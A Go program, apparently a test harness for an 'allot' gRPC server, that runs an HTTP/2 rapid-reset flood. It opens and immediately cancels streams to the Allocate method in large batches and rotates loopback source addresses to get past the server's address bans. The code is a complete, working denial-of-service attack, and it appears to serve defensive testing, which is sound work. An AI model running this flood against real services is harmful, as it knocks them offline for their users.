package main

import (
	"bytes"
	"context"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	allotv1 "github.com/allot-engine/allot/api/allot/v1"
)

// attack opens calls and resets them at once, as fast as the server takes them, until the context ends. When a connection is closed the
// next comes from another address, as those of many attackers do, since the server keeps out the address of one that it expelled. Only
// Linux has more loopback addresses than one without being told to.
func attack(ctx context.Context, address string) {
	for host := 0; ctx.Err() == nil; host++ {
		d := net.Dialer{Timeout: time.Second, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, byte(1+host>>16&63), byte(host>>8), byte(host))}}
		c, err := d.DialContext(ctx, "tcp", address)
		if err != nil {
			continue
		}
		stop := context.AfterFunc(ctx, func() { _ = c.Close() })
		go func() { _, _ = io.Copy(io.Discard, c) }() // so that the server's answers do not hold it up; ends with the connection
		resets(c)
		stop()
		_ = c.Close() // the server may have closed it already
	}
}

// resetsTogether are written at once.
const resetsTogether = 100

// resets opens and resets calls on a connection until it breaks.
func resets(c net.Conn) {
	var block, out bytes.Buffer
	out.WriteString(http2.ClientPreface)
	f := http2.NewFramer(&out, nil)
	_ = f.WriteSettings() // a buffer takes everything
	e := hpack.NewEncoder(&block)
	for id := uint32(1); ; {
		for range resetsTogether {
			block.Reset()
			for _, h := range [][2]string{
				{":method", "POST"}, {":scheme", "http"}, {":path", allotv1.AllocationService_Allocate_FullMethodName}, {":authority", "x"},
				{"content-type", "application/grpc"}, {"te", "trailers"},
			} {
				_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
			}
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true})
			_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
			id += 2
		}
		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
		if _, err := c.Write(out.Bytes()); err != nil {
			return
		}
		out.Reset()
	}
}
